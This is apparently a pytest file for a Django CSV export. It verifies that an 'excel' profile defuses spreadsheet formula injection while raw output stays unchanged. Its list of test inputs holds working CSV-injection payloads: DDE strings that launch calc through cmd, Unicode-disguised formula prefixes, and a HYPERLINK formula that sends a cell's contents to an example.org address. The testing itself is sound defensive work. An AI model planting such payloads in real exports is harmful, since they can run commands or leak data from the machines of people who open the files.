"""Formulas that somebody may have printed: harmless in a spreadsheet, untouched for code."""

import csv
import io

import pytest
from django.test import Client

from markets.models import Listing
from markets.tables.guard import APOSTROPHE, begins_like_a_formula
from markets.tables.scope import Scope
from tests.html import read_csv

ATTACKS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "'",
    '"=1+1"',
    '=1+1","=2+2',
    "a\n=1+1",
    '%0A-3+3+cmd|" /C calc"!D2',
]


@pytest.fixture
def attacked(record: Scope) -> list[str]:
    """The record with an attack for the name of each of some listings; gives them in the order of the file."""
    listings = list(Listing.objects.public().order_by("market__slug", "edition__year")[: len(ATTACKS)])
    for listing, attack in zip(listings, ATTACKS, strict=True):
        listing.printed_name = attack
        listing.domains_printed, listing.domains_basis = [attack, "-b.example"], "secondary"
        listing.save()
    return ATTACKS


def _names(content: bytes) -> list[str]:
    return [row["printed_name"] for row in read_csv(content)][: len(ATTACKS)]


def test_the_raw_profile_gives_every_attack_as_it_is(attacked: list[str], client: Client) -> None:
    assert _names(client.get("/data/timeline.csv").content) == attacked


def test_the_excel_profile_can_be_undone(attacked: list[str], client: Client) -> None:
    names = _names(client.get("/data/timeline.csv?profile=excel").content)
    assert [name.removeprefix(APOSTROPHE) for name in names] == attacked
    assert not [
        name for name in names if name.lstrip(" \t\r\n\u00a0\u200b\ufeff")[:1] in tuple("=+-@＝＋－＠")
    ]


def test_what_was_taken_for_an_address_is_no_formula_either(attacked: list[str], client: Client) -> None:
    for table in ("timeline", "listings"):
        content = client.get(f"/data/{table}.csv?profile=excel").content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(content, newline="")))
        assert not [row["domains"] for row in rows if begins_like_a_formula(row["domains"])]
        raw = csv.DictReader(io.StringIO(client.get(f"/data/{table}.csv").content.decode(), newline=""))
        assert [row["domains"].removeprefix(APOSTROPHE) for row in rows] == [row["domains"] for row in raw]


def test_numbers_in_the_excel_profile_are_numbers(attacked: list[str], client: Client) -> None:
    raw, excel = (
        list(
            csv.DictReader(
                io.StringIO(client.get(f"/data/timeline.csv{query}").content.decode("utf-8-sig"), newline="")
            )
        )
        for query in ("", "?profile=excel")
    )
    for name in (
        "row_id",
        "year",
        "released_on",
        "recommendation_count",
        "source_url",
        "permalink",
    ):
        assert [row[name] for row in raw] == [row[name] for row in excel]
